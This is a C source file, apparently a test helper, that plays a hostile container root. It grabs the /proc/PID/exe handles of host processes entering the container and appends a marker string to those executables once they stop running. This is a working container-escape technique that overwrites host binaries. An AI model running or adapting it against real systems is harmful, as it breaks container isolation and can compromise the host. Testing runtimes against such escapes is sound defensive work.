// overwrite: a hostile root of a container. Holds on to the executables of all processes that are not in the image, and
// writes to them as soon as nobody executes them any more. Prints what it has written to.

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MOST 16

static int held[MOST];
static ino_t known[MOST];
static int count;

static void hold(int pid) {
  char name[64], target[4096];
  struct stat real, found;
  snprintf(name, sizeof name, "/proc/%d/exe", pid);
  ssize_t length = readlink(name, target, sizeof target - 1);
  int file = open(name, O_RDONLY);
  if (length < 0 || file < 0) return;
  target[length] = 0;
  fstat(file, &real);
  int ours = stat(target, &found) == 0 && real.st_dev == found.st_dev && real.st_ino == found.st_ino;
  for (int i = 0; i < count; i++) ours |= known[i] == real.st_ino;
  if (ours || count == MOST) {
    close(file);
    return;
  }
  printf("holds %s\n", target);
  known[count] = real.st_ino;
  held[count++] = file;
}

int main(void) {
  static const char mark[] = "overwritten by a container";
  setvbuf(stdout, 0, _IOLBF, 0);
  printf("ready\n");
  for (;;) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(processes)) != 0;) {
      if (atoi(entry->d_name) > 0) hold(atoi(entry->d_name));
    }
    closedir(processes);
    for (int i = 0; i < count; i++) {
      char name[64];
      snprintf(name, sizeof name, "/proc/self/fd/%d", held[i]);
      int file = open(name, O_WRONLY | O_APPEND);
      if (file >= 0 && write(file, mark, sizeof mark) > 0) printf("has written to %d\n", i);
      if (file >= 0) close(file);
    }
  }
}
